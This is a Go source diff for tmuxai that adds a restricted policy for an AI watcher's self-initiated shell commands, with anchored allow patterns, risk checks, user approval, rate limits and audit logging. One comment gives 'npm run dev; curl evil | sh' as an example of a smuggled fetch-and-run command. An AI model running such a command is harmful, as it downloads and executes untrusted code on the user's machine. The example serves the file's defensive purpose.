@@ -0,0 +1,229 @@
+package internal
+
+import (
+	"fmt"
+	"regexp"
+	"slices"
+	"time"
+
+	"github.com/alvinunreal/tmuxai/config"
+	"github.com/alvinunreal/tmuxai/logger"
+	"github.com/alvinunreal/tmuxai/system"
+	"github.com/fatih/color"
+)
+
+// watchAction is a command a watcher started with --act wants to run
+type watchAction struct {
+	Command string
+	PaneId  string
+	At      time.Time
+}
+
+// actPolicy is the restricted policy of a watcher acting on its own. Commands must pass
+// whitelist_patterns, blacklist_patterns and allowed_write_paths as they were when the
+// watcher started, "always allow" rules of the session do not apply. Commands whose every
+// stage matches allow as a whole run right away unless they are destructive, others wait
+// for /watch approve. At most max commands run per period.
+type actPolicy struct {
+	config *config.Config // copy of the config when the watcher started
+	allow  []*regexp.Regexp
+	max    int
+	period time.Duration
+}
+
+// newActPolicy returns the policy for a watcher started with cfg, a snapshot of the config,
+// allow adds to watch_act.allow
+func newActPolicy(cfg *config.Config, allow []string) (*actPolicy, error) {
+	p := &actPolicy{
+		config: cfg,
+		max:    cfg.WatchAct.MaxActions,
+		period: cfg.WatchAct.Period,
+	}
+	for _, pattern := range append(slices.Clone(cfg.WatchAct.Allow), allow...) {
+		if _, err := regexp.Compile(pattern); err != nil {
+			return nil, fmt.Errorf("invalid allow pattern '%s': %w", pattern, err)
+		}
+		// anchored, so that "npm run dev" does not allow "npm run dev; curl evil | sh"
+		re := regexp.MustCompile(`^(?:` + pattern + `)$`)
+		p.allow = append(p.allow, re)
+	}
+	return p, nil
+}
+
+// check returns why command may not run, or whether it runs without confirmation.
+// cwd is the working directory of the pane, relative redirections are resolved against it.
+func (p *actPolicy) check(command string, cwd string) (refused string, auto bool) {
+	view := p.view(cwd)
+	if decision := view.checkPolicy(command); !decision.Approved {
+		return decision.String(), false
+	}
+	if view.assessRisk(command).Level.RequiresTypedYes() {
+		return "", false
+	}
+	stages, err := parseCommandStages(command)
+	if err != nil || len(stages) == 0 {
+		return "", false
+	}
+	for _, stage := range stages {
+		if !slices.ContainsFunc(p.allow, func(re *regexp.Regexp) bool { return re.MatchString(stage.Text) }) {
+			return "", false
+		}
+	}
+	return "", true
+}
+
+// view returns a manager which only knows the copied config and cwd, to check commands
+// with the policy and risk rules of the chat
+func (p *actPolicy) view(cwd string) *Manager {
+	return &Manager{Config: p.config, ExecPane: &system.TmuxPaneDetails{CurrentPath: cwd}}
+}
+
+// actionPane returns the pane an action of w runs in: the only pane which printed the
+// output or fired the triggers the AI was asked about, or the only pane w watches
+func actionPane(w *Watcher, output []paneOutput, hits []triggerHit) string {
+	panes := make(map[string]bool)
+	for _, o := range output {
+		panes[o.PaneId] = true
+	}
+	for _, hit := range hits {
+		if hit.PaneId != "" {
+			panes[hit.PaneId] = true
+		}
+	}
+	if len(panes) == 1 {
+		for id := range panes {
+			return id
+		}
+	}
+	if len(w.panes) == 1 {
+		return w.panes[0]
+	}
+	return ""
+}
+
+// addNote tells the AI about an action in the next message of w
+func (w *Watcher) addNote(note string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	w.notes = append(w.notes, note)
+}
+
+// proposeAction applies the policy of w to a command the AI wants to run in paneId:
+// it is refused, runs right away when explicitly allowed, or waits for /watch approve
+func (m *Manager) proposeAction(w *Watcher, command string, paneId string) {
+	action := &watchAction{Command: command, PaneId: paneId, At: time.Now()}
+	if paneId == "" {
+		m.refuseAction(w, action, "it is not clear which watched pane it is meant for")
+		return
+	}
+	pane, err := system.TmuxPanesDetails(paneId)
+	if err != nil || len(pane) == 0 {
+		m.refuseAction(w, action, "pane "+paneId+" is gone")
+		return
+	}
+	refused, auto := w.act.check(command, pane[0].CurrentPath)
+	if refused != "" {
+		m.refuseAction(w, action, refused)
+		return
+	}
+	if auto {
+		m.runAction(w, action, ApprovalAuto)
+		return
+	}
+
+	w.mu.Lock()
+	busy := w.pending != nil
+	if !busy {
+		w.pending = action
+	}
+	w.mu.Unlock()
+	if busy {
+		m.refuseAction(w, action, "a previous command still waits for approval")
+		return
+	}
+	logger.Info("Watcher %s wants to run in pane %s: %s", w.Name, paneId, command)
+	m.watcherPrintln(w, color.New(color.FgHiYellow, color.Bold).Sprintf("Wants to run `%s` in pane %s", command, paneId)+
+		color.New(color.FgHiBlack).Sprintf(" (/watch approve %s | /watch reject %s)", w.Name, w.Name))
+	m.notifyWith(w.config, w.config.Notify.Confirmation, Notification{
+		Event:   "confirmation",
+		Title:   "Watcher " + w.Name + " wants to run a command",
+		Message: command,
+		PaneId:  paneId,
+	})
+}
+
+// resolveAction runs or rejects the command of w waiting for approval
+func (m *Manager) resolveAction(w *Watcher, approve bool) {
+	w.mu.Lock()
+	action := w.pending
+	w.pending = nil
+	w.mu.Unlock()
+	if action == nil {
+		m.Println("Watcher " + w.Name + " has no command waiting for approval")
+		return
+	}
+	if !approve {
+		logger.Info("Watcher %s command rejected: %s", w.Name, action.Command)
+		m.auditWith(w.config, AuditEntry{Action: "exec", Watcher: w.Name, PaneId: action.PaneId, Text: action.Command, Approval: ApprovalRejected})
+		w.addNote(fmt.Sprintf("The user rejected your command `%s`, do not run it again.", action.Command))
+		m.Println("Rejected `" + action.Command + "`")
+		return
+	}
+	m.runAction(w, action, ApprovalConfirmed)
+}
+
+// refuseAction announces and logs a command of w which may not run
+func (m *Manager) refuseAction(w *Watcher, action *watchAction, reason string) {
+	logger.Info("Watcher %s refused to run %s: %s", w.Name, action.Command, reason)
+	m.auditWith(w.config, AuditEntry{Action: "exec", Watcher: w.Name, PaneId: action.PaneId, Text: action.Command, Approval: ApprovalRejected})
+	m.watcherPrintln(w, color.New(color.FgHiRed).Sprintf("Refused to run `%s`: %s", action.Command, reason))
+	w.addNote(fmt.Sprintf("Your command `%s` was refused: %s.", action.Command, reason))
+}
+
+// runAction types the command of w into its pane once the pane is at a shell prompt and
+// the rate limit allows it, then announces, audits and reports it to the AI
+func (m *Manager) runAction(w *Watcher, action *watchAction, approval Approval) {
+	pane, err := system.TmuxPanesDetails(action.PaneId)
+	if err != nil || len(pane) == 0 {
+		m.refuseAction(w, action, "pane "+action.PaneId+" is gone")
+		return
+	}
+	if !system.IsShellCommand(pane[0].CurrentCommand) {
+		m.refuseAction(w, action, "pane "+action.PaneId+" is busy running "+pane[0].CurrentCommand)
+		return
+	}
+
+	now := time.Now()
+	w.mu.Lock()
+	w.actions = slices.DeleteFunc(w.actions, func(at time.Time) bool { return now.Sub(at) >= w.act.period })
+	limited := len(w.actions) >= w.act.max
+	if !limited {
+		w.actions = append(w.actions, now)
+	}
+	w.mu.Unlock()
+	if limited {
+		m.refuseAction(w, action, fmt.Sprintf("the watcher already ran %d commands in the last %s", w.act.max, w.act.period))
+		return
+	}
+
+	logger.Info("Watcher %s runs in pane %s (%s): %s", w.Name, action.PaneId, approval, action.Command)
+	m.watcherPrintln(w, color.New(color.FgHiYellow, color.Bold).Sprintf("Running `%s` in pane %s", action.Command, action.PaneId)+
+		color.New(color.FgHiBlack).Sprintf(" (%s)", approval))
+	system.TmuxSendCommandToPane(action.PaneId, action.Command, true)
+	m.auditWith(w.config, AuditEntry{
+		Action:   "exec",
+		Watcher:  w.Name,
+		PaneId:   action.PaneId,
+		Cwd:      pane[0].CurrentPath,
+		Text:     action.Command,
+		Approval: approval,
+		Risk:     w.act.view(pane[0].CurrentPath).assessRisk(action.Command).Level.String(),
+	})
+	m.notifyWith(w.config, w.notifiers(w.config.Notify.Watch), Notification{
+		Event:   "watch",
+		Title:   "Watcher " + w.Name + " ran a command",
+		Message: action.Command,
+		PaneId:  action.PaneId,
+	})
+	w.addNote(fmt.Sprintf("Your command `%s` ran in pane %s.", action.Command, action.PaneId))
+}